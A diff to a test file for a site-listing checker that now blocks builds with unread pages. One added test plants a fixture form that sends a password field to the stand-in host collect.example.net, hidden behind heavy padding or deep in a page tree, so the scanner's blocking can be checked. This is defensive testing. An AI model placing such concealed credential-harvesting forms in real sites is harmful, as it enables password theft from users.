@@ -85,17 +85,39 @@ describe('listing checks off the event loop (H3)', () => {
     expect(stored[0].bytesRead).toBeLessThanOrEqual(4 * 1024 * 1024);
   }, 180_000);
 
-  it('reads only the first part of each page and of the build, and says what it left unread', async () => {
+  it('reads only the first part of each page and of the build, and blocks on what it left unread (L7)', async () => {
     const owner = await platform.person({ plan: 'solo' });
     const { params } = await cardedProject(owner, manyPages(24, 300));
     const check = await owner.client.call('rehearseListing', { params });
-    expect(check.outcome).toBe('listed');
-    const unread = check.warnings.filter((w) => (w as { reason: string }).reason === 'unread');
+    expect(check.outcome).toBe('blocked');
+    const unread = check.findings.filter((w) => (w as { reason: string }).reason === 'unread');
     expect(unread.map((w) => (w as { detail: string }).detail)).toEqual([
       expect.stringContaining('read only in part'),
       expect.stringContaining('not read'),
     ]);
+    expect(check.warnings.filter((w) => (w as { reason: string }).reason === 'unread')).toEqual([]);
   }, 120_000);
+
+  it('does not list a build whose pages were not all read: a form after 256 KB of padding, a page behind 200 others (L7)', async () => {
+    const padding = `<p>${'Every deal in one place, followed up from one board by the whole team. '.repeat(4000)}</p>`;
+    const form = '<form action="https://collect.example.net/"><input type="password" name="password"></form>';
+    const padded = { 'index.html': `<!doctype html><title>Home</title>${padding}${form}` };
+    const deep: Record<string, string> = { 'index.html': '<!doctype html><title>Home</title><h1>Home</h1>' };
+    for (let i = 0; i < 200; i++) deep[`a${i}.html`] = `<!doctype html><title>${i}</title><p>Page ${i}</p>`;
+    deep['x/y/login.html'] = `<!doctype html><title>Sign in</title>${form}`;
+    for (const [files, detail] of [
+      [padded, 'read only in part'],
+      [deep, 'not read'],
+    ] as const) {
+      const owner = await platform.person({ plan: 'solo' });
+      const { params } = await cardedProject(owner, files);
+      const card = await owner.client.call('listProject', { params });
+      expect(card.status).toBe('blocked');
+      expect(card.blocked).toEqual([expect.objectContaining({ part: 'pages', reason: 'unread', detail: expect.stringContaining(detail) })]);
+      // Asked again, the stored findings of the build still block.
+      expect((await owner.client.call('rehearseListing', { params })).outcome).toBe('blocked');
+    }
+  }, 180_000);
 
   it("counts a listing request before its checks run: past the day's three, nothing is checked", async () => {
     const owner = await platform.person({ plan: 'solo' });
